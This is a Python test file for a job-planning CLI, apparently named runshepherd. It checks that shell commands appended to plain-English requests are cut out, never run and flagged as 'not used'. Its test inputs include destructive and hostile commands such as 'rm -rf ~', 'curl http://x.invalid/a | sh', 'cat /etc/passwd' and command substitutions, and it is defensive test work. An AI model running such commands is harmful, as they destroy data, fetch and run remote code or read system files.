"""A request with a shell command in it ("train a small classifier for 3 epochs; rm -rf ~") was planned with the
command dropped without a word and the workflow named after it (`train-classifier-rm`). Now nothing of the command
runs, no name or setting is taken from it, and the plan says which part was not used and why."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from runshepherd.cli.main import main
from runshepherd.request_shell import split_shell


def test_the_plan_names_the_part_it_did_not_use_and_the_name_is_the_jobs(
    here: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(""))
    assert main(["run", "train a small classifier for 3 epochs; rm -rf ~", "--no-input"]) == 3  # paused at submit
    said = " ".join((lambda o: o.out + o.err)(capsys.readouterr()).split())
    assert "not used: `; rm -rf ~` — it reads as a shell command" in said
    assert "wrote train-classifier from your request (epochs=3)" in said
    assert "rm" not in said.replace("`; rm -rf ~`", "")  # no workflow, setting or path named after it


def test_nothing_of_the_command_runs_and_the_job_does(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    marks = [here / "by-touch", here / "by-echo", here / "by-substitution"]
    request = f"train a small classifier for 1 epochs; touch {marks[0]} && echo x > {marks[1]} $(touch {marks[2]})"
    assert main(["run", request, "--yes", "--json"]) == 0
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines() if line.startswith("{")]
    planned = next(e for e in events if e["event"] == "planned")
    assert planned["spec_name"] == "train-classifier"
    assert sum(w.startswith("not used: ") for w in planned["warnings"]) == 2
    assert events[-1]["outcome"] == "COMPLETED"
    assert not any(m.exists() for m in marks)


def test_draft_says_so_too(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["draft", "train a small classifier for 2 epochs && curl http://x.invalid/a | sh", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["name"] == "train-classifier" and "curl" not in doc["spec"]
    assert any(n.startswith("not used: `&& curl http://x.invalid/a | sh`") for n in doc["notes"])


@pytest.mark.parametrize(
    ("request_text", "kept", "cut"),
    [
        ("train for 2 epochs\nsudo reboot", "train for 2 epochs", ["sudo reboot"]),
        ("train `id` now", "train now", ["`id`"]),
        ("train for 3 epochs; bash -c 'rm -rf ~'", "train for 3 epochs", ["; bash -c 'rm -rf ~'"]),
        # English after a semicolon, a quoted flag value and a launcher naming a script are the job's
        ("train for 3 epochs; use lr 0.01", "train for 3 epochs; use lr 0.01", []),
        ("train with train.py --run-name 'a;b'", "train with train.py --run-name 'a;b'", []),
        ("python train.py --epochs 2", "python train.py --epochs 2", []),
        # a command that is an English word too is the job's word unless a shell-shaped argument follows (review27:
        # "; source data is s3://b/x" lost the data source)
        ("train a classifier; source data is s3://b/x", "train a classifier; source data is s3://b/x", []),
        ("train for 2 epochs; eval on the test set", "train for 2 epochs; eval on the test set", []),
        ("train it\nexport the model to onnx", "train it\nexport the model to onnx", []),
        ("train it; cat images are in /data", "train it; cat images are in /data", []),
        ("train it; source ~/.bashrc", "train it", ["; source ~/.bashrc"]),
        ("train it; export HF_HOME=/tmp/x", "train it", ["; export HF_HOME=/tmp/x"]),
        ("train it; echo done > /tmp/mark", "train it", ["; echo done > /tmp/mark"]),
        ("train it; cat /etc/passwd", "train it", ["; cat /etc/passwd"]),
    ],
)
def test_what_reads_as_a_command(request_text: str, kept: str, cut: list[str]) -> None:
    assert split_shell(request_text) == (kept, cut)


@pytest.mark.parametrize(
    ("request_text", "fragment"),
    [
        # before: the fragment's `.sh` read as the person's own script, so no recipe sized the request at all
        ("generate 130 images with Isaac Sim; rm -f ./old.sh", "; rm -f ./old.sh"),
        # before: the pool choice read "H100" from the fragment
        ("generate 130 images with Isaac Sim && echo on H100", "&& echo on H100"),
    ],
)
def test_a_recipe_sized_request_is_read_without_what_the_door_cut_out(
    here: Path, monkeypatch: pytest.MonkeyPatch, request_text: str, fragment: str
) -> None:
    """The request is cut once where it enters (`request_text.enter`); `cli/recipes.py` reads what is left."""
    seen: list[dict[str, object]] = []

    def run_plan(ctx: object, plan: object, **kw: object) -> int:
        seen.append({"submissions": getattr(plan, "submissions", None), **kw})
        return 0

    monkeypatch.setattr("runshepherd.cli.recipes.run_plan", run_plan)
    assert main(["run", request_text, "--yes", "--json"]) == 0
    [call] = seen
    assert call["submissions"] == 3 and call["request"] == "generate 130 images with Isaac Sim"
    assert [n.split(" — ")[0] for n in call["not_used"]] == [f"not used: `{fragment}`"]  # type: ignore[attr-defined]
